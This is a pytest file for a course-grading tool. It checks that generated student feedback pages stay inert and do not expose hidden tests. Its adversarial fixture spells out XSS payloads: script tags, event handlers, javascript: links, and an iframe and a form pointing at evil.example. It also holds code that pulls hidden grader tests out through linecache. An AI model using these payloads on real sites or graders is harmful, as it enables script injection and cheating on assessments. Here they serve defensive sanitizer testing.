"""``coursekit feedback`` on the demo course: every student gets a page, and no page leaks or runs anything.

One graded course (module fixture, graded with the library, no worker processes): a correct
submission whose own code is full of everyday lines, a partly wrong one, an adversarial one
(script, event handlers, ``javascript:`` and remote URLs, an iframe, CSS ``url()`` in Markdown; a
script in an HTML output; hidden tests printed from ``linecache`` and raised inside an error
message; math), a flagged one whose id has a comma, and correct ones with odd ids. Pages are
checked with BeautifulSoup and one in headless Chromium with the network blocked.
"""

from __future__ import annotations

import re
import shutil
from datetime import datetime, timedelta
from pathlib import Path

import nbformat
import pytest
from bs4 import BeautifulSoup

from coursekit import demo
from coursekit.course import Course
from coursekit.execute import is_test_cell
from coursekit.feedback import generate_feedback
from coursekit.pages import UnsafePage
from tests.book.site import ARTIFACTS
from tests.browser.chromium import DESKTOP, PHONE
from tests.browser.conftest import OVERFLOW_JS
from tests.coursekit.cases import EVERYDAY_CELL, EVERYDAY_LINES, MSE, MSE_SUM, RELU, Case, write_submission
from tests.coursekit.helpers import grade_in_process, hidden_test_lines, html_text, run_coursekit

pytestmark = pytest.mark.slow

ATTACK_MARKDOWN = """\
## My notes on $\\frac{N}{N-1}\\sigma^2$

$$\\mathrm{Var}[x] = \\frac{1}{N}\\sum_i (x_i - \\mu)^2$$

<script>alert("markdown")</script>

<img src="x" onerror="alert('onerror')">

<a href="javascript:alert('link')">click me</a>

<iframe src="https://evil.example/frame"></iframe>

<img src="https://evil.example/pixel.png">

<div style="background: url(https://evil.example/bg.png)">styled</div>

<link rel="stylesheet" href="https://evil.example/style.css">

<form action="https://evil.example/steal"><input name="q"></form>

[a link](https://evil.example/page)
"""
RICH_OUTPUTS = """\
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML("<script>alert(1)</script><b onmouseover='alert(2)'>bold</b><img src='https://evil.example/x.png'>"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="alert(3)">'
            '<script>alert(4)</script><circle cx="10" cy="10" r="8"/></svg>'))
display(Markdown("Rendered **markdown** with math $\\\\sqrt{2/n}$"))
display(Javascript("alert(5)"))
print("an_unbroken_token_" * 80)  # must wrap on a phone"""
# mse raises an error whose message holds the calling test cell's source, hidden tests included
LEAKY_MSE = """\
import linecache
import sys


def mse(pred, target):
    raise ValueError(repr(linecache.getlines(sys._getframe(1).f_code.co_filename)))"""
LEAK_AFTER_TESTS = """\
import linecache
from IPython.display import HTML, display
sources = ["".join(entry[2]) for entry in list(linecache.cache.values())]
print("\\n".join(sources))
print(repr(sources))
display(HTML("<pre>" + "\\n".join(sources) + "</pre>"))"""
ODD_IDS = ["good_c", "flagged", "with space", "ünïcödé", "-dash"]
FLAGGED = "flagged,good_c"


def _adversarial(root: Path) -> None:
    released = root / "exercises" / demo.ASSIGNMENT / f"{demo.ASSIGNMENT}.ipynb"
    nb = demo.submission(released, {"relu": RELU, "mse": LEAKY_MSE})
    nb.cells[1:1] = [nbformat.v4.new_markdown_cell(ATTACK_MARKDOWN), nbformat.v4.new_code_cell(RICH_OUTPUTS)]
    nb.cells.append(nbformat.v4.new_code_cell(LEAK_AFTER_TESTS))
    folder = root / "submitted" / "adversarial" / demo.ASSIGNMENT
    folder.mkdir(parents=True)
    nbformat.write(nb, folder / f"{demo.ASSIGNMENT}.ipynb")


def _with_everyday_cell(root: Path, student: str) -> None:
    path = root / "submitted" / student / demo.ASSIGNMENT / f"{demo.ASSIGNMENT}.ipynb"
    nb = nbformat.read(path, as_version=4)
    nb.cells.insert(3, nbformat.v4.new_code_cell(EVERYDAY_CELL))
    nbformat.write(nb, path)


@pytest.fixture(scope="module")
def graded(demo_template, tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("feedback") / "course"
    shutil.copytree(demo_template, root)
    correct = Case({"relu": RELU, "mse": MSE}, 6, "graded", None)
    write_submission(root, "good", correct)
    _with_everyday_cell(root, "good")
    write_submission(root, "mse_sum", Case({"relu": RELU, "mse": MSE_SUM}, 3, "graded", None))
    write_submission(root, FLAGGED, Case({"relu": RELU, "mse": MSE}, 6, "graded", "changed", edit="tamper"))
    for student in ODD_IDS:
        write_submission(root, student, correct)
    _adversarial(root)
    grade_in_process(root, demo.ASSIGNMENT)
    return root


def _page(root: Path, student: str) -> Path:
    return root / "feedback" / student / demo.ASSIGNMENT / f"{demo.ASSIGNMENT}.html"


def _secrets_for(root: Path, student: str) -> set[str]:
    """Hidden-test lines of the source (computed independently) that the student did not write."""
    own = nbformat.read(root / "submitted" / student / "demo" / "demo.ipynb", as_version=4)
    own_lines = [
        " ".join(line.split()) for cell in own.cells if not is_test_cell(cell) for line in cell.source.splitlines()
    ]
    hidden = hidden_test_lines(root / "solutions" / "demo" / "demo.ipynb")
    return {line for line in hidden if not any(line in mine for mine in own_lines)}


def _leaks(root: Path, student: str) -> list[str]:
    text = html_text(_page(root, student))
    return sorted(line for line in _secrets_for(root, student) if line in text)


# -- who gets a page ------------------------------------------------------------------------------------
def test_every_student_gets_a_page_and_a_flagged_comma_id_is_withheld(graded):
    result = run_coursekit(graded, "feedback", "demo")
    assert result.returncode == 0
    written = {path.parts[-3] for path in (graded / "feedback").glob("*/demo/demo.html")}
    # flagged: the tampered one, and the adversarial one (it reads linecache and frames)
    assert written == {"good", "mse_sum", *ODD_IDS}
    assert f"withheld (flagged for review; clear the flag or pass --include-flagged): adversarial, {FLAGGED}" in (
        result.stdout
    )
    result = run_coursekit(graded, "feedback", "demo", "--include-flagged")
    written = {path.parts[-3] for path in (graded / "feedback").glob("*/demo/demo.html")}
    assert written == {"good", "mse_sum", "adversarial", FLAGGED, *ODD_IDS}
    assert "SCORES ONLY" not in result.stderr and "NOT GRADED" not in result.stderr
    for student in written:
        folder = graded / "feedback" / student / "demo"
        assert (folder / "timestamp.txt").is_file() and (folder / "submission_secret.txt").is_file()
        assert _leaks(graded, student) == [], student


def test_student_option_writes_only_those_pages(graded, tmp_path):
    shutil.rmtree(graded / "feedback", ignore_errors=True)
    run_coursekit(graded, "feedback", "demo", "--student", "with space", "--student=-dash", "--student", "ünïcödé")
    assert {path.parts[-3] for path in (graded / "feedback").glob("*/demo/demo.html")} == {
        "with space",
        "-dash",
        "ünïcödé",
    }
    run_coursekit(graded, "feedback", "demo", "--student", FLAGGED)  # flagged: withheld, nothing else touched
    assert not (graded / "feedback" / FLAGGED).exists() and not (graded / "feedback" / "good_c").exists()
    missing = run_coursekit(graded, "feedback", "demo", "--student", "nobody", check=False)
    assert missing.returncode == 2 and "no submission of 'demo' from 'nobody'" in missing.stderr


def test_an_ungraded_submission_is_reported_and_fails_the_command(graded, tmp_path):
    root = tmp_path / "course"
    shutil.copytree(graded, root)
    write_submission(root, "late_comer", Case({"relu": RELU, "mse": MSE}, 6, "graded", None))
    result = run_coursekit(root, "feedback", "demo", check=False)
    assert result.returncode == 1 and "NOT GRADED YET (no page): late_comer" in result.stderr
    assert _page(root, "good").is_file()


# -- what a page shows ----------------------------------------------------------------------------------
def test_a_correct_page_shows_the_students_everyday_lines(graded):
    generate_feedback(Course.load(graded), "demo", students=["good"])
    text = html_text(_page(graded, "good"))
    for line in EVERYDAY_LINES:
        assert line in text
    assert "(6, None) 3" in text  # the cell's output, untouched
    assert "[line hidden" not in text and "Score: 6 / 6" in text


def test_a_partly_wrong_page_names_each_test_and_its_message(graded):
    generate_feedback(Course.load(graded), "demo", students=["mse_sum"])
    soup = BeautifulSoup(_page(graded, "mse_sum").read_text(), "html.parser")
    rows = {row.find("code").text: row.get_text(" ", strip=True) for row in soup.select("table.summary tbody tr")}
    assert set(rows) == {"test_relu", "test_mse", "test_mse_type"}
    assert "2 / 2" in rows["test_relu"] and "passed" in rows["test_relu"]
    assert "0 / 3" in rows["test_mse"] and "AssertionError: mse of zeros against ones is 1" in rows["test_mse"]
    assert "Test cell" not in soup.get_text() and "Score: 3 / 6" in soup.get_text()


def test_a_late_penalty_is_shown_at_the_top(graded, tmp_path):
    root = tmp_path / "course"
    shutil.copytree(graded, root)
    course = Course.load(root)
    due = datetime(2025, 3, 1, 12, 0)
    with course.gradebook() as gb:  # what nbgrader's late-penalty plugins leave in the gradebook
        gb.update_or_create_assignment("demo", duedate=due)
        submission = gb.find_submission("demo", "good")
        submission.timestamp = due + timedelta(hours=2, minutes=5)
        gb.find_submission_notebook("demo", "demo", "good").late_submission_penalty = 1.5
        gb.db.commit()
    generate_feedback(course, "demo", students=["good"])
    top = BeautifulSoup(_page(root, "good").read_text(), "html.parser").select_one(".late").get_text()
    assert "2 hours, 5 minutes after the due date (2025-03-01 12:00 UTC)" in top
    assert "late penalty of 1.5 points" in top
    assert "Score: 4.5 / 6" in _page(root, "good").read_text()


def test_a_page_that_fails_the_final_check_becomes_a_scores_page(graded, monkeypatch):
    def unsafe(nb, grades, secrets):
        raise UnsafePage("<script> element")

    monkeypatch.setattr("coursekit.feedback.feedback_page", unsafe)
    report = generate_feedback(Course.load(graded), "demo", students=["mse_sum"])
    assert report.complete and report.scores_only == [
        "mse_sum/demo: the page failed the final check (<script> element)"
    ]
    text = html_text(_page(graded, "mse_sum"))
    assert "could not be shown safely" in text and "test_mse" in text and "0 / 3" in text
    assert "mse of zeros against ones is 1" not in text  # scores only


# -- adversarial --------------------------------------------------------------------------------------
URL_ATTRIBUTES = {"src", "href", "srcset", "action", "formaction", "data", "poster", "background", "xlink:href"}


def test_an_adversarial_page_holds_no_script_handler_remote_url_or_hidden_line(graded):
    report = generate_feedback(Course.load(graded), "demo", students=["adversarial"], include_flagged=True)
    assert report.scores_only == []
    page = _page(graded, "adversarial")
    soup = BeautifulSoup(page.read_text(), "html.parser")
    for tag in ("script", "iframe", "object", "embed", "form", "input", "link", "base", "svg"):
        assert soup.find(tag) is None, tag
    assert len(soup.find_all("style")) == 1 and "url(" not in soup.style.text
    for element in soup.find_all(True):
        for name, value in element.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            assert not name.startswith("on"), (element.name, name)
            assert name != "style", element.name
            assert "javascript:" not in value.lower(), (element.name, name)
            if name in URL_ATTRIBUTES:
                assert value.startswith("#") or value.startswith("data:image/"), (element.name, name, value[:80])
    assert _leaks(graded, "adversarial") == []
    text = soup.get_text()
    assert "[line hidden: it quotes a hidden test]" in text  # the printed tests, and the error message
    assert "ValueError: [line hidden" in text
    assert "Removed from this output: scripts, content loaded from the internet" in text
    assert "A JavaScript output is not shown" in text
    assert "An HTML output produced after hidden tests ran is not shown: it could display test code." in text
    assert "Removed from this text: scripts, embedded frames or objects, form controls" in text
    assert soup.find("img", src=re.compile(r"^data:image/svg\+xml;base64,"))  # the SVG, as an inert image
    assert len(soup.find_all("math")) >= 3 and "bold" in text and "click me" in text


MATH_JS = """() => Array.from(document.querySelectorAll("math")).map((m) => {
  const box = m.getBoundingClientRect();
  return [getComputedStyle(m).display, box.width, box.height];
})"""


def _visit(browser, url: str, options: dict, screenshot: Path) -> dict:
    """Open ``url`` in a fresh context where every non-file request is refused; what the page did."""
    context = browser.new_context(**options)
    seen = {"requests": [], "errors": []}
    context.route(re.compile(r"^(?!file:).*"), lambda route: route.abort("blockedbyclient"))
    page = context.new_page()
    page.on("request", lambda request: seen["requests"].append(request.url))
    page.on("console", lambda message: message.type == "error" and seen["errors"].append(message.text))
    page.on("pageerror", lambda error: seen["errors"].append(str(error)))
    page.on("dialog", lambda dialog: seen["errors"].append(f"a script opened a dialog: {dialog.message}"))
    page.goto(url, wait_until="load")
    page.wait_for_timeout(300)  # anything a page could start after load
    seen["math"] = page.evaluate(MATH_JS)
    seen["overflow"] = page.evaluate(OVERFLOW_JS)
    page.screenshot(path=screenshot, full_page=True)
    context.close()
    return seen


def test_an_adversarial_page_in_chromium_loads_nothing_and_renders_math(graded, browser):
    generate_feedback(Course.load(graded), "demo", students=["adversarial"], include_flagged=True)
    url = _page(graded, "adversarial").as_uri()
    shots = ARTIFACTS / "screenshots" / "feedback"
    shots.mkdir(parents=True, exist_ok=True)
    for width, options in (("desktop", DESKTOP), ("phone", PHONE)):
        seen = _visit(browser, url, options, shots / f"adversarial-{width}.png")
        assert seen["requests"] == [url] and seen["errors"] == []
        assert len(seen["math"]) >= 3
        for display, box_width, box_height in seen["math"]:  # laid out natively, as MathML
            assert "math" in display and box_width > 0 and box_height > 0, seen["math"]
        overflow = seen["overflow"]
        assert overflow["scrollWidth"] <= overflow["clientWidth"], overflow["offenders"]
